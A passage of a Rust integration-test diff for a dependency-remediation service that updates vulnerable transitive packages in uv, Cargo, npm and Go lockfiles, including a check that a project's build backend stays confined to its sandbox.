+    let (uv_path, find_links) = (uv_binary(), wheel_dir.to_string_lossy().into_owned());
+    let world = World::start(WorldOptions {
+        files: vec![
+            ("pyproject.toml", pyproject.to_owned()),
+            ("helper/pyproject.toml", helper.to_owned()),
+            ("helper/backend.py", backend),
+            ("uv.lock", lock.clone()),
+        ],
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.uv = uv_path;
+            s.lockfiles.python_find_links = find_links;
+            // As in production: tools may reach the registries and nothing else (the tests'
+            // world allows private addresses for its loopback git server).
+            s.sandbox.allowed_hosts = vec!["registry.invalid".to_owned()];
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    let assessment = finding(&world, "vulnpkg", "PyPI", "PYSEC-2024-0004").await;
+    let id = world.request(assessment).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    assert_eq!(op["output"]["verification"]["vulnerable_left"], 0, "{op}");
+    let branch = op["output"]["branch"].as_str().unwrap();
+    let after = world.file_on_branch(branch, "uv.lock").unwrap();
+    // uv asked the backend for the helper's metadata: it ran, and only in the sandbox.
+    assert!(
+        after.contains("name = \"helper\"\nversion = \"1.0.0\""),
+        "{after}"
+    );
+    assert!(!marker.exists(), "the backend wrote outside the clone");
+    assert!(!std::path::Path::new("/usr/ESCAPED").exists());
+    assert!(
+        listener.accept().is_err(),
+        "the backend reached the host's loopback"
+    );
+    assert_eq!(
+        world
+            .git
+            .git("acme/web", &["ls-tree", "-r", "--name-only", branch])
+            .lines()
+            .filter(|f| f.contains("dist-info") || f.contains("ESCAPED"))
+            .count(),
+        0
+    );
+    world.stop().await;
+}
+
+#[tokio::test]
+async fn a_transitive_crate_is_moved_in_cargo_lock_alone() {
+    let fixtures = tempfile::tempdir().unwrap();
+    let config = local_crate_registry(fixtures.path());
+    let project = tempfile::tempdir().unwrap();
+    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nparentcrate = \"1\"\n";
+    std::fs::create_dir_all(project.path().join("src")).unwrap();
+    std::fs::write(project.path().join("Cargo.toml"), manifest).unwrap();
+    std::fs::write(project.path().join("src/lib.rs"), "").unwrap();
+    cargo(project.path(), &config, &["generate-lockfile"]);
+    cargo(
+        project.path(),
+        &config,
+        &["update", "-p", "vulncrate", "--precise", "1.0.0"],
+    );
+    let lock = std::fs::read_to_string(project.path().join("Cargo.lock")).unwrap();
+    assert!(
+        lock.contains("name = \"vulncrate\"\nversion = \"1.0.0\""),
+        "{lock}"
+    );
+
+    let (cargo_path, config_path) = (cargo_binary(), config.clone());
+    let registry_dir = fixtures
+        .path()
+        .join("registry")
+        .to_string_lossy()
+        .into_owned();
+    let world = World::start(WorldOptions {
+        files: vec![
+            ("Cargo.toml", manifest.to_owned()),
+            ("src/lib.rs", String::new()),
+            ("Cargo.lock", lock.clone()),
+        ],
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.cargo = cargo_path;
+            s.lockfiles.cargo_config = Some(config_path);
+            s.lockfiles.cargo_registry_dirs = vec![registry_dir];
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    let assessment = finding(&world, "vulncrate", "crates.io", "RUSTSEC-2024-0101").await;
+    let id = world.request(assessment).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(output["strategy"], "lock_only", "{op}");
+    assert_eq!(output["changed_files"], json!(["Cargo.lock"]), "{op}");
+    assert_eq!(
+        output["verification"]["resolved"],
+        json!([{"path": "Cargo.lock", "version": "1.0.1", "vulnerable": false}]),
+        "{op}"
+    );
+    assert_eq!(output["verification"]["vulnerable_left"], 0);
+    let branch = output["branch"].as_str().unwrap();
+    let after = world.file_on_branch(branch, "Cargo.lock").unwrap();
+    // Only vulncrate's entry moved: its version and checksum.
+    let (added, removed) = changed_lines(&lock, &after);
+    assert_eq!(added.len(), 2, "+{added:?} -{removed:?}");
+    assert!(
+        added.contains(&"version = \"1.0.1\"".to_owned()),
+        "+{added:?}"
+    );
+    assert!(
+        added.iter().any(|l| l.starts_with("checksum = ")),
+        "+{added:?}"
+    );
+    // cargo's own check on the branch.
+    let check = checkout(
+        &world,
+        branch,
+        &["Cargo.toml", "Cargo.lock", "src/lib.rs"],
+        &[],
+    );
+    cargo(
+        check.path(),
+        &config,
+        &["metadata", "--locked", "--format-version=1"],
+    );
+    let body = github.created()[0]["body"].as_str().unwrap().to_owned();
+    assert!(body.contains("declared by no manifest"), "{body}");
+    world.stop().await;
+}
+
+#[tokio::test]
+async fn a_transitive_npm_package_is_moved_by_npm_update_in_the_lock_alone() {
+    let registry = NpmRegistry::start(&[
+        ("lodash", "4.17.20", &[]),
+        ("lodash", "4.17.21", &[]),
+        ("parent", "1.0.0", &[("lodash", "^4.17.20")]),
+    ])
+    .await;
+    let deps = json!({"parent": "^1.0.0"});
+    let mut parent = locked(&registry, "parent", "1.0.0");
+    parent["dependencies"] = json!({"lodash": "^4.17.20"});
+    let lock = lock_v3(
+        deps.clone(),
+        json!({"node_modules/parent": parent,
+               "node_modules/lodash": locked(&registry, "lodash", "4.17.20")}),
+    );
+    let (world, github) = world(
+        vec![
+            ("package.json", package_json(deps)),
+            ("package-lock.json", lock.clone()),
+        ],
+        &registry,
+    )
+    .await;
+    let id = world.request(world.catalog.affected).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(output["strategy"], "lock_only", "{op}");
+    assert_eq!(
+        output["changed_files"],
+        json!(["package-lock.json"]),
+        "{op}"
+    );
+    assert_eq!(
+        output["verification"],
+        json!({"lock_files": ["package-lock.json"], "tool": "npm update --package-lock-only",
+               "resolved": [{"path": "node_modules/lodash", "version": "4.17.21", "vulnerable": false}],
+               "vulnerable_left": 0, "not_updated": []}),
+        "{op}"
+    );
+    let branch = output["branch"].as_str().unwrap();
+    let before: Value = serde_json::from_str(&lock).unwrap();
+    let after: Value =
+        serde_json::from_str(&world.file_on_branch(branch, "package-lock.json").unwrap()).unwrap();
+    let mut expected = before.clone();
+    expected["packages"]["node_modules/lodash"] = after["packages"]["node_modules/lodash"].clone();
+    assert_eq!(after, expected, "only lodash's entry moved");
+    assert_eq!(
+        after["packages"]["node_modules/lodash"]["version"],
+        "4.17.21"
+    );
+    npm_ci_passes(
+        &world,
+        branch,
+        &["package.json", "package-lock.json"],
+        &registry,
+    );
+    assert_eq!(github.created().len(), 1);
+    world.stop().await;
+}
+
+/// A project whose `parent` pins lodash 4.17.20 exactly: no lock-only update can fix it.
+async fn pinned_by_parent(overrides: bool) -> (World, FakeGithub, NpmRegistry, String) {
+    let registry = NpmRegistry::start(&[
+        ("lodash", "4.17.20", &[]),
+        ("lodash", "4.17.21", &[]),
+        ("parent", "1.0.0", &[("lodash", "4.17.20")]),
+    ])
+    .await;
+    let deps = json!({"parent": "^1.0.0"});
+    let mut parent = locked(&registry, "parent", "1.0.0");
+    parent["dependencies"] = json!({"lodash": "4.17.20"});
+    let lock = lock_v3(
+        deps.clone(),
+        json!({"node_modules/parent": parent,
+               "node_modules/lodash": locked(&registry, "lodash", "4.17.20")}),
+    );
+    let manifest = package_json(deps);
+    let url = registry.url.clone();
+    let world = World::start(WorldOptions {
+        files: vec![
+            ("package.json", manifest.clone()),
+            ("package-lock.json", lock),
+        ],
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.npm_registry = url;
+            s.lockfiles.overrides = overrides;
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    (world, github, registry, manifest)
+}
+
+#[tokio::test]
+async fn a_transitive_package_its_parent_pins_fails_naming_what_blocks_it_without_overrides() {
+    let (world, github, _registry, _) = pinned_by_parent(false).await;
+    let id = world.request(world.catalog.affected).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_FAILED", "{op}");
+    let error = op["error_message"].as_str().unwrap();
+    assert!(
+        error.contains("could not move lodash (4.17.20 at node_modules/lodash)")
+            && error.contains("not retried"),
+        "{error}"
+    );
+    assert!(github.created().is_empty(), "no pull request without a fix");
+    world.stop().await;
+}
+
+#[tokio::test]
+async fn a_transitive_package_its_parent_pins_is_forced_by_an_override_in_a_draft() {
+    let (world, github, registry, manifest) = pinned_by_parent(true).await;
+    let id = world.request(world.catalog.affected).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(output["strategy"], "override", "{op}");
+    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
+    assert_eq!(
+        output["changed_files"],
+        json!(["package.json", "package-lock.json"]),
+        "{op}"
+    );
+    let reason = output["draft_reason"].as_str().unwrap();
+    assert!(
+        reason.contains("node_modules/parent (1.0.0) asks for 4.17.20"),
+        "{reason}"
+    );
+    let branch = output["branch"].as_str().unwrap();
+    let after: Value =
+        serde_json::from_str(&world.file_on_branch(branch, "package.json").unwrap()).unwrap();
+    let mut expected: Value = serde_json::from_str(&manifest).unwrap();
+    expected["overrides"] = json!({"lodash": "4.17.21"});
+    assert_eq!(
+        after, expected,
+        "the manifest gains the override and nothing else"
+    );
+    npm_ci_passes(
+        &world,
+        branch,
+        &["package.json", "package-lock.json"],
+        &registry,
+    );
+    let created = github.created();
+    assert_eq!(created.len(), 1);
+    assert_eq!(
+        created[0]["draft"], true,
+        "an override is opened as a draft"
+    );
+    world.stop().await;
+}
+
+#[tokio::test]
+async fn a_transitive_go_module_gets_its_indirect_require_from_go_get() {
+    let proxy = tempfile::tempdir().unwrap();
+    module_proxy(proxy.path());
+    proxy_module(
+        proxy.path(),
+        "example.com/parentlib",
+        "v1.0.0",
+        "module example.com/parentlib\n\ngo 1.21\n\nrequire example.com/vulnlib v1.0.0\n",
+        "package parentlib\n\nimport _ \"example.com/vulnlib\"\n",
+    );
+    // The project imports parentlib, which brings vulnlib in: `go mod tidy` writes the
+    // indirect require and go.sum, as the developers would have.
+    let project = tempfile::tempdir().unwrap();
+    let main_go = "package main\n\nimport _ \"example.com/parentlib\"\n\nfunc main() {}\n";
+    std::fs::write(
+        project.path().join("go.mod"),
+        "module example.com/app\n\ngo 1.21\n",
+    )
+    .unwrap();
+    std::fs::write(project.path().join("main.go"), main_go).unwrap();
+    go(
+        project.path(),
+        proxy.path(),
+        &["get", "example.com/parentlib@v1.0.0"],
+    );
+    go(project.path(), proxy.path(), &["mod", "tidy"]);
+    let go_mod = std::fs::read_to_string(project.path().join("go.mod")).unwrap();
+    let go_sum = std::fs::read_to_string(project.path().join("go.sum")).unwrap();
+    assert!(
+        go_mod.contains("example.com/vulnlib v1.0.0 // indirect"),
+        "{go_mod}"
+    );
+
+    let proxy_url = format!("file://{}", proxy.path().display());
+    let go_path = go_binary();
+    let world = World::start(WorldOptions {
+        files: vec![
+            ("go.mod", go_mod.clone()),
+            ("go.sum", go_sum),
+            ("main.go", main_go.to_owned()),
+        ],
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.go = go_path;
+            s.lockfiles.go_proxy = proxy_url;
+            s.lockfiles.go_sumdb = "off".to_owned();
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    let assessment = finding(&world, "example.com/vulnlib", "Go", "GO-2024-0002").await;
+    let id = world.request(assessment).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(output["strategy"], "lock_only", "{op}");
+    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
+    assert_eq!(output["changed_files"], json!(["go.mod", "go.sum"]), "{op}");
+    let branch = output["branch"].as_str().unwrap();
+    let new_mod = world.file_on_branch(branch, "go.mod").unwrap();
+    let (added, removed) = changed_lines(&go_mod, &new_mod);
+    assert!(
+        added.len() == 1 && added[0].ends_with("example.com/vulnlib v1.0.1 // indirect"),
+        "+{added:?} -{removed:?}\n{new_mod}"
+    );
+    let checkout = checkout(&world, branch, &["go.mod", "go.sum", "main.go"], &[]);
+    go(checkout.path(), proxy.path(), &["mod", "verify"]);
+    let listed = go(
+        checkout.path(),
+        proxy.path(),
+        &["list", "-mod=readonly", "-m", "example.com/vulnlib"],
+    );
+    assert_eq!(listed.trim(), "example.com/vulnlib v1.0.1");
+    world.stop().await;
+}
+
+#[tokio::test]
+async fn a_transitive_python_package_is_moved_in_uv_lock_alone() {
+    let fixtures = tempfile::tempdir().unwrap();
+    let wheel_dir = fixtures.path().join("wheels");
+    wheels(&wheel_dir);
+    let project = tempfile::tempdir().unwrap();
+    let pyproject = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"parentpkg\"]\n";
+    std::fs::write(project.path().join("pyproject.toml"), pyproject).unwrap();
+    uv(project.path(), &wheel_dir, &["lock"]);
+    uv(
+        project.path(),
+        &wheel_dir,
+        &["lock", "--upgrade-package", "vulnpkg==1.0.0"],
+    );
+    let lock = std::fs::read_to_string(project.path().join("uv.lock")).unwrap();
+    assert!(
+        lock.contains("name = \"vulnpkg\"\nversion = \"1.0.0\""),
+        "{lock}"
+    );
+
+    let (uv_path, find_links) = (uv_binary(), wheel_dir.to_string_lossy().into_owned());
+    let world = World::start(WorldOptions {
+        files: vec![
+            ("pyproject.toml", pyproject.to_owned()),
+            ("uv.lock", lock.clone()),
+        ],
+        adjust: Some(Box::new(move |s| {
+            s.lockfiles.uv = uv_path;
+            s.lockfiles.python_find_links = find_links;
+        })),
+        ..Default::default()
+    })
+    .await;
+    let github = FakeGithub::with_delay(Duration::ZERO);
+    github.mount(&world.github).await;
+    let assessment = finding(&world, "vulnpkg", "PyPI", "PYSEC-2024-0005").await;
+    let id = world.request(assessment).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(output["strategy"], "lock_only", "{op}");
+    assert_eq!(output["changed_files"], json!(["uv.lock"]), "{op}");
+    assert_eq!(
+        output["verification"]["resolved"],
+        json!([{"path": "uv.lock", "version": "1.0.1", "vulnerable": false}]),
+        "{op}"
+    );
+    let branch = output["branch"].as_str().unwrap();
+    let checkout = checkout(&world, branch, &["pyproject.toml", "uv.lock"], &[]);
+    uv(checkout.path(), &wheel_dir, &["lock", "--check"]);
+    let after = world.file_on_branch(branch, "uv.lock").unwrap();
+    let (added, _) = changed_lines(&lock, &after);
+    assert!(
+        added
+            .iter()
+            .all(|l| l.contains("vulnpkg") || l.contains("1.0.1")),
+        "only vulnpkg moved: +{added:?}"
+    );
+    world.stop().await;
+}
+
+#[tokio::test]
+async fn a_transitive_package_its_parent_pins_is_fixed_by_upgrading_the_parent() {
+    let registry = NpmRegistry::start(&[
+        ("lodash", "4.17.20", &[]),
+        ("lodash", "4.17.21", &[]),
+        ("parent", "1.0.0", &[("lodash", "4.17.20")]),
+        ("parent", "1.0.1", &[("lodash", "^4.17.21")]),
+        ("parent", "2.0.0", &[]),
+    ])
+    .await;
+    let deps = json!({"parent": "^1.0.0"});
+    let mut parent = locked(&registry, "parent", "1.0.0");
+    parent["dependencies"] = json!({"lodash": "4.17.20"});
+    let lock = lock_v3(
+        deps.clone(),
+        json!({"node_modules/parent": parent,
+               "node_modules/lodash": locked(&registry, "lodash", "4.17.20")}),
+    );
+    let (world, github) = world(
+        vec![
+            ("package.json", package_json(deps)),
+            ("package-lock.json", lock),
+        ],
+        &registry,
+    )
+    .await;
+    let id = world.request(world.catalog.affected).await;
+    let op = world.wait_for_end(id, END).await;
+    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
+    let output = &op["output"];
+    assert_eq!(output["strategy"], "parent_upgrade", "{op}");
+    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
+    assert_eq!(output["draft_reason"], Value::Null, "{op}");
+    let note = output["strategy_note"].as_str().unwrap();
+    assert!(
+        note.contains("parent 1.0.0 -> 1.0.1 pulls lodash ^4.17.21"),
+        "the lowest release in the parent's major that admits the fix: {note}"
+    );
+    let branch = output["branch"].as_str().unwrap();
+    let manifest: Value =
+        serde_json::from_str(&world.file_on_branch(branch, "package.json").unwrap()).unwrap();
+    assert_eq!(
+        manifest["dependencies"]["parent"], "^1.0.1",
+        "range style kept"
+    );
+    let after: Value =
+        serde_json::from_str(&world.file_on_branch(branch, "package-lock.json").unwrap()).unwrap();
+    assert_eq!(after["packages"]["node_modules/parent"]["version"], "1.0.1");
+    assert_eq!(
+        after["packages"]["node_modules/lodash"]["version"],
+        "4.17.21"
+    );
+    npm_ci_passes(
+        &world,
+        branch,
+        &["package.json", "package-lock.json"],
+        &registry,
+    );
+    let created = github.created();
+    assert_eq!(created.len(), 1);
+    assert_eq!(created[0]["draft"], false);
+    let body = created[0]["body"].as_str().unwrap();
+    assert!(body.contains("parent upgrade"), "{body}");
     world.stop().await;
 }
